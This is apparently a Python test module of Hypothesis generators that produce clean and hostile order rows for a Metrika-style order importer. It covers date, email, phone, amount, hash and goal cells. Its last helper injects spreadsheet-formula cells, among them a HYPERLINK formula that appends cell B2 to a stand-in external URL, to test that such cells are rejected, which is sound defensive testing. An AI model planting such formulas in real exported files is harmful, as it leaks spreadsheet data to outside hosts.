"""Hypothesis generators of realistic and hostile orders: cells, rows, options and the input's form."""

from __future__ import annotations

import datetime as dt
from dataclasses import dataclass

from hypothesis import strategies as st

from tests.simple_orders.oracle import Options

NOW = dt.datetime(2024, 2, 1, 12, 0, tzinfo=dt.UTC)
ZONES = ("Europe/Moscow", "Asia/Yekaterinburg", "UTC", "America/New_York", "Asia/Kolkata", "Europe/London")
#: Every column, in Metrika's documented order (``client_uniq_id`` is written as given, not generated).
COLUMNS = (
    "id",
    "create_date_time",
    "client_ids",
    "emails",
    "phones",
    "emails_md5",
    "phones_md5",
    "order_status",
    "revenue",
    "cost",
    "goals",
    "currency",
)
#: Columns an example may leave out (``create_date_time`` and ``emails`` are always there).
OPTIONAL = tuple(c for c in COLUMNS if c not in ("create_date_time", "emails"))
#: Stands for a cell larger than the CSV reader's 1 MiB block (expanded by :func:`cell`, so that a
#: failing example's repr stays short).
HUGE = "<huge cell>"
HUGE_TEXT = "z" * ((1 << 20) + 1000)


def cell(value: str) -> str:
    """Return the cell as the input holds it."""
    return HUGE_TEXT if value == HUGE else value


CONTROLS = ("\t", "\x00", "\x1b", "\x7f", "\u0085", "\n", "\r", "\x9f")


def _two(n: int) -> str:
    return f"{n:02d}"


@st.composite
def dates(draw: st.DrawFn) -> str:
    """A create_date_time cell: every documented layout, ISO forms with zones, DST edges, garbage."""
    kind = draw(st.sampled_from(["dotted", "short", "dashed", "iso", "edge", "garbage"]))
    year = draw(st.integers(1968, 2025))
    month = draw(st.one_of(st.integers(1, 12), st.integers(0, 13)))
    day = draw(st.one_of(st.integers(1, 28), st.integers(0, 32)))
    hour, minute, second = draw(st.integers(0, 24)), draw(st.integers(0, 60)), draw(st.integers(0, 59))
    clock = draw(
        st.sampled_from(["", f" {_two(hour)}:{_two(minute)}", f" {_two(hour)}:{_two(minute)}:{_two(second)}"])
    )
    if kind == "dotted":
        return f"{_two(day)}.{_two(month)}.{year}{clock}"
    if kind == "short":
        return f"{_two(day)}.{_two(month)}.{_two(year % 100)}{clock}"
    if kind == "dashed":
        return f"{year}-{_two(month)}-{_two(day)}{clock}"
    if kind == "iso":
        fraction = draw(st.sampled_from(["", ".123", ".123456"]))
        zone = draw(st.sampled_from(["", "Z", "+03:00", "-08:00", "+0530", "+05", "-11:30"]))
        seconds = f":{_two(second)}{fraction}" if fraction or draw(st.booleans()) else ""
        return f"{year}-{_two(month)}-{_two(day)}T{_two(hour)}:{_two(minute)}{seconds}{zone}"
    if kind == "edge":
        return draw(
            st.sampled_from(
                [
                    "2023-03-12 02:30:00",  # skipped in New York
                    "2023-11-05 01:30:00",  # twice in New York
                    "2010-03-28 02:30",  # skipped in Moscow, when it still changed clocks
                    "2023-03-26 01:30:00",  # skipped in London
                    "1970-01-01 02:00:00",
                    "01.01.1970 00:00",
                    "1970-01-01T00:00:00+03:00",
                    "2024-02-02 12:00:00",
                    "2024-02-02 23:59:59",
                    "2024-02-03",
                    "31.12.99",
                    "29.02.2023",
                    "29.02.2024 10:00",
                    " 2024-01-09 ",
                ]
            )
        )
    return draw(st.sampled_from(["", "yesterday", "1700000000", "2024/01/09", "9.1.2024", "2024-01-09 10"]))


_LOCAL = st.text(alphabet="abcxyzABC019._+-'анна", min_size=1, max_size=10)
_DOMAIN = st.sampled_from(
    ["example.com", "Example.COM", "пример.рф", "mail.ru", "x.io", "nodomain", "a..b", ""]
)


@st.composite
def emails(draw: st.DrawFn) -> str:
    """An emails cell: one or several addresses, realistic or broken (spaces, quotes, no domain)."""

    def one() -> str:
        shape = draw(st.sampled_from(["plain", "plain", "padded", "nbsp", "odd", "at"]))
        local, domain = draw(_LOCAL), draw(_DOMAIN)
        if shape == "padded":
            return f"  {local}@{domain} "
        if shape == "nbsp":
            return f"{local}\u00a0x@{domain}"
        if shape == "odd":
            odd = draw(st.sampled_from(['"', ";", " ", "@"]))
            return f"{local}{odd}{local}@{domain}"
        if shape == "at":
            return f"{local}{domain}"
        return f"{local}@{domain}"

    count = draw(st.integers(0, 3))
    return draw(st.sampled_from([",", ", ", " , "])).join(one() for _ in range(count))


_PHONE_SHAPES = (
    "+7 (999) {a}-{b}-{c}",
    "8-999-{a}-{b}-{c}",
    "7999{a}{b}{c}",
    "+7 999 {a} {b} {c}",
    "8\u00a0999\u00a0{a}\u00a0{b}{c}",
    "+7 495 {a}-{b}-{c} (89)",
    "8 800 {a} {b} {c} доб 12",
    "8 800 {a} {b} {c} вн. 34",
    "+7 999 {a}-{b}-{c} ext. 5",
    "+7 999 {a}-{b}-{c}x12",
    "+7 999 {a}-{b}-{c} #7",
    "{a}-{b}{c} {a}-{c}{b}",
    "7999{a}{b}{c};7999{a}{c}{b}",
    "8-800-FLOWERS",
    "٧٩٩٩{a}{b}{c}",
    "{b}{c}",
    "7999{a}{b}{c}{a}{b}{c}",
    "+44 20 {a}{b} {c}{b}",
    # numbering-plan mistakes: prefixes left in, doubled or unknown country codes, wrong lengths
    "0049 30 {a}{b}{c}",
    "00 7 916 {a} {b} {c}",
    "810 7 916 {a} {b} {c}",
    "+7 8 916 {a}-{b}-{c}",
    "77 916 {a} {b} {c}",
    "+44 0 20 {a}{b} {c}{b}",
    "+49 0 30 {a}{b}{c}",
    "+44 44 20 {a}{b} {c}{b}",
    "+28 {a} {b}{c}",
    "+1 1 212 {a} {b}{c}",
    "+1 212 {a} {b}{c}",
    "{a}{b}{c}",
    "030 {a}{b}{c}",
)


@st.composite
def phones(draw: st.DrawFn) -> str:
    """A phones cell: realistic shapes, extensions, two numbers in one value, letters, odd digits."""

    def one() -> str:
        if draw(st.integers(0, 9)) == 0:
            return draw(st.text(alphabet="0123456789 +()-.x#;\u00a0доб", max_size=20))
        if draw(st.integers(0, 9)) == 0:
            return "+" + draw(st.text(alphabet="0123456789", min_size=7, max_size=15))
        shape = draw(st.sampled_from(_PHONE_SHAPES))
        a, b, c = draw(st.integers(100, 999)), draw(st.integers(10, 99)), draw(st.integers(10, 99))
        return shape.format(a=a, b=b, c=c)

    count = draw(st.integers(0, 2))
    return ",".join(one() for _ in range(count))


_AMOUNTS = (
    "1e309",
    "1e100000000",
    "1e-100000000",
    "1E-7",
    "inf",
    "nan",
    "Infinity",
    "-5",
    "-0",
    "1.234",
    "12.500",
    "0.125",
    "4590,50",
    "1 299,99",
    "1\u00a0299,99",
    "1'299",
    "1,200.50",
    " 7 ",
    "+3",
    "0.5e16",
    "999999999999999.99",
    "1000000000000000",
    "0." + "1" * 21,
    "0." + "1" * 20,
    "00012.3400",
    ".5",
    "5.",
    "",
)


@st.composite
def amounts(draw: st.DrawFn) -> str:
    """A revenue or cost cell: plain, decimal-comma, grouped, exponents huge and tiny, inf, nan, garbage."""
    kind = draw(st.integers(0, 3))
    if kind == 0:
        return draw(st.sampled_from(_AMOUNTS))
    if kind == 1:
        return draw(st.text(alphabet="0123456789.,-+eE '\u00a0", max_size=12))
    if kind == 2:
        value = draw(
            st.decimals(min_value=0, max_value=10**16, allow_nan=False, places=draw(st.integers(0, 4)))
        )
        return str(value)
    return repr(draw(st.floats(min_value=0, max_value=1e17, allow_nan=False)))


_HEX = "0123456789abcdef"
_MD5 = st.text(alphabet=_HEX, min_size=32, max_size=32)


@st.composite
def md5s(draw: st.DrawFn) -> str:
    """An emails_md5 or phones_md5 cell: hashes in either case, several, or not quite hashes."""

    def one() -> str:
        kind = draw(st.integers(0, 4))
        if kind == 0:
            return draw(st.sampled_from(["", "x" * 32, "0" * 31, "0" * 33, "g" + "0" * 31, "д" * 32]))
        if kind == 1:
            return draw(st.text(alphabet=_HEX + "ABCDEFg -", max_size=34))
        value = draw(_MD5)
        return value.upper() if kind == 2 else value

    count = draw(st.integers(0, 2))
    return draw(st.sampled_from([",", ", "])).join(one() for _ in range(count))


_CLIENT_IDS = ("1704880560123456789", "12.5", "1e5", "-1", "١٢٣", "12 34", "0", "007", "")


@st.composite
def client_ids(draw: st.DrawFn) -> str:
    """A client_ids cell: ClientIDs of digits, several, or not digits (a float, a sign, other digits)."""
    if draw(st.booleans()):
        return draw(st.sampled_from(_CLIENT_IDS))
    values = draw(st.lists(st.text(alphabet="0123456789 .e-", max_size=20), max_size=3))
    return ",".join(values)


_STATUSES = (
    "PAID",
    "paid",
    " Paid ",
    "In_Progress",
    "CANCELED",
    "cancelled",
    "Spam",
    "dostavka",
    "oplata_cash",
    "goal-1",
    "goal 1",
    "a.b",
    "Оплачен",
    "in_progreß",
    "paıd",
    "",
)


@st.composite
def statuses(draw: st.DrawFn) -> str:
    """An order_status cell: the statuses in any case, goal identifiers, and neither."""
    if draw(st.integers(0, 3)):
        return draw(st.sampled_from(_STATUSES))
    return draw(st.text(alphabet="PAIDpaid_1 -.ßıОп", max_size=12))


_GOALS = (
    *("", "filial_1", "oplata_cash:200", "a:0200.50,b", "g:10.0", "g:007", "g:1.000,h:0.0"),
    *("g:", "g:1.", "g:.5", "g:-1", "g:1e3", ":5", "g:1:2", "гол", "a, b"),
)


@st.composite
def goal_lists(draw: st.DrawFn) -> str:
    """A goals cell: goal[:price] lists with padded prices, and malformed goals."""
    if draw(st.integers(0, 2)):
        return draw(st.sampled_from(_GOALS))
    return draw(st.text(alphabet="ab_1:.,0 -", max_size=14))


def _with_control(draw: st.DrawFn, value: str) -> str:
    if draw(st.integers(0, 14)):
        return value
    position = draw(st.integers(0, len(value)))
    return value[:position] + draw(st.sampled_from(CONTROLS)) + value[position:]


@dataclass(frozen=True)
class Example:
    """One generated input: rows of cells, the input's form and the options."""

    rows: list[dict[str, str]]
    columns: tuple[str, ...]
    form: str  # "frame" or "csv"
    delimiter: str
    line_end: str
    bom: bool
    quote_all: bool
    decimal_option: str | None
    options: Options
    on_invalid: str = "skip"
    duplicates: str = "keep_last"


@st.composite
def clean_dates(draw: st.DrawFn) -> str:
    """A valid create_date_time in January 2024, in any documented layout."""
    day, hour, minute, second = (
        draw(st.integers(1, 31)),
        draw(st.integers(0, 23)),
        draw(st.integers(0, 59)),
        draw(st.integers(0, 59)),
    )
    return draw(
        st.sampled_from(
            [
                f"{_two(day)}.01.2024",
                f"{_two(day)}.01.24 {_two(hour)}:{_two(minute)}",
                f"{_two(day)}.01.2024 {_two(hour)}:{_two(minute)}:{_two(second)}",
                f"2024-01-{_two(day)}",
                f"2024-01-{_two(day)} {_two(hour)}:{_two(minute)}",
                f"2024-01-{_two(day)}T{_two(hour)}:{_two(minute)}:{_two(second)}+03:00",
                f"2024-01-{_two(day)}T{_two(hour)}:{_two(minute)}:{_two(second)}.5Z",
            ]
        )
    )


_CLEAN = {
    "id": st.from_regex(r"[a-z]{1,2}-[0-9]{1,2}", fullmatch=True),
    "emails": st.sampled_from(
        [
            "anna.petrova@example.com",
            "Ivan@Example.org",
            " olga@mail.ru ",
            "a.b@x.io,c.d@y.io",
            "пётр@пример.рф",
            "",
        ]
    ),
    "phones": st.sampled_from(
        [
            "+7 (999) 555-11-11",
            "8-912-000-22-33",
            "79995551111",
            "+7\u00a0912\u00a0000\u00a022\u00a033",
            "",
            "+44 20 7946 0958",
        ]
    ),
    "revenue": st.sampled_from(["200", "4590.50", "0", "", "1200.5", "99999.99"]),
    "cost": st.sampled_from(["150", "", "0.5", "10"]),
    "currency": st.sampled_from(["", "RUB", "EUR", "usd"]),
    "client_ids": st.sampled_from(["1704880560123456789", "12345,67890", "", "99"]),
    "emails_md5": st.sampled_from(
        [
            "",
            "3c56ff8fef0f6c65b36b2d25720fe276",
            "3C56FF8FEF0F6C65B36B2D25720FE276",
            "0" * 32 + ", " + "f" * 32,
        ]
    ),
    "phones_md5": st.sampled_from(["", "f09f2c3d48f31e2a802944ade2e5aec5"]),
    "order_status": st.sampled_from(["PAID", "paid", "IN_PROGRESS", "Cancelled", "SPAM", "", "dostavka"]),
    "goals": st.sampled_from(["", "filial_1", "oplata_cash:200", "a:0200.50,b", "goal:10.0"]),
}


@st.composite
def rows(draw: st.DrawFn, columns: tuple[str, ...]) -> dict[str, str]:
    """One order: mostly clean, else hostile cells, now and then a control character or a huge cell."""
    if draw(st.integers(0, 9)) < 6:
        row = {column: draw(_CLEAN.get(column, clean_dates())) for column in columns}
        if not (row.get("emails") or row.get("phones")):
            row["emails"] = "fallback.buyer@example.com"
        return row
    makers = {
        "id": st.one_of(
            st.sampled_from(["o-1", "o-2", "o-3", "", "ид-7", 'q"uote', "a,b", "a;b", "line\nbreak"]),
            st.text(max_size=6),
        ),
        "create_date_time": dates(),
        "emails": emails(),
        "phones": phones(),
        "revenue": amounts(),
        "cost": amounts(),
        "currency": st.sampled_from(["", "RUB", "eur", " usd ", "RUBL", "руб", "€", "Us1"]),
        "client_ids": client_ids(),
        "emails_md5": md5s(),
        "phones_md5": md5s(),
        "order_status": statuses(),
        "goals": goal_lists(),
    }
    row = {column: _with_control(draw, draw(makers[column])) for column in columns}
    _with_formula(draw, row)
    if draw(st.integers(0, 60)) == 0:
        row["id"] = HUGE
    return row


@st.composite
def examples(draw: st.DrawFn) -> Example:
    """A whole input: columns, 1 to 8 rows, a form (DataFrame or CSV bytes), options, and the modes."""
    optional = draw(st.lists(st.sampled_from(OPTIONAL), unique=True))
    columns = tuple(c for c in COLUMNS if c in {"create_date_time", "emails", *optional})
    generated = draw(st.lists(rows(columns), min_size=1, max_size=8))
    form = draw(st.sampled_from(["csv", "csv", "frame"]))
    delimiter = draw(st.sampled_from([",", ";"])) if form == "csv" else ","
    decimal_option = draw(st.sampled_from([None, None, ","]))
    decimal = decimal_option or ("either" if delimiter == ";" and form == "csv" else ".")
    timezone = draw(st.sampled_from(ZONES))
    options = Options(
        timezone=timezone,
        source_timezone=draw(st.sampled_from([timezone, *ZONES])),
        decimal=decimal,
        hash_identifiers=draw(st.booleans()),
        rewrite_leading_8=draw(st.booleans()),
        now=NOW,
    )
    return Example(
        generated,
        columns,
        form,
        delimiter,
        draw(st.sampled_from(["\n", "\r\n", "\r"])),
        draw(st.booleans()),
        draw(st.booleans()),
        decimal_option,
        options,
        draw(st.sampled_from(["skip", "skip", "fail"])),
        draw(st.sampled_from(["keep_last", "keep_last", "error"])),
    )


# -- goal prices under the file's decimal separator --------------------------------------------------

_GOAL_ITEMS = (
    "oplata",
    "filial_1",
    "50",
    "oplata:4590",
    "oplata:4590.50",
    "oplata:4590,50",
    "oplata:4590,50:10",
    "a:0200.50",
    "a:1.234",
    "a:12.500",
    "a:1.2345",
    "a:0,5",
    "a:12,",
    "a:1.",
    "a:.5",
    "a:-5",
    "goal one:1",
    "a: 5",
    "a:1 299,99",
)


@dataclass(frozen=True)
class GoalExample:
    """Goals cells in one input, its form and the ``decimal`` option."""

    cells: list[str]
    form: str  # "frame" or "csv"
    delimiter: str
    decimal_option: str | None

    @property
    def decimal(self) -> str:
        """Return the separator in force: the option, else ``either`` for a semicolon file, else ``.``."""
        if self.decimal_option is not None:
            return self.decimal_option
        return "either" if self.form == "csv" and self.delimiter == ";" else "."


@st.composite
def goal_cells(draw: st.DrawFn) -> str:
    """A goals cell: priced and plain goals, decimal commas and dots, joined tightly or with spaces."""
    if draw(st.integers(0, 4)) == 0:
        return draw(st.text(alphabet="ab1_:,.5 0\u00a0", max_size=16))
    items = draw(st.lists(st.sampled_from(_GOAL_ITEMS), max_size=4))
    cell = items[0] if items else ""
    for item in items[1:]:
        cell += draw(st.sampled_from([",", ",", ", ", " ,"])) + item
    return cell


@st.composite
def goal_examples(draw: st.DrawFn) -> GoalExample:
    """An input of 1 to 6 goals cells, as CSV (comma or semicolon) or a DataFrame, with a decimal option."""
    form = draw(st.sampled_from(["csv", "csv", "frame"]))
    delimiter = draw(st.sampled_from([",", ";"])) if form == "csv" else ","
    decimal_option = draw(st.sampled_from([None, None, ",", "."]))
    return GoalExample(draw(st.lists(goal_cells(), min_size=1, max_size=6)), form, delimiter, decimal_option)


# -- formula-like cells, for the rejects file ----------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _with_formula(draw: st.DrawFn, row: dict[str, str]) -> None:
    """Now and then start a cell like a spreadsheet formula (``=HYPERLINK(...)``, ``@SUM``, ``-1+1``)."""
    if draw(st.integers(0, 3)):
        return
    column = draw(st.sampled_from(sorted(row)))
    start = draw(st.sampled_from(FORMULA_STARTS))
    row[column] = draw(st.sampled_from([f'{start}HYPERLINK("http://x.example/?"&B2)', start + row[column]]))
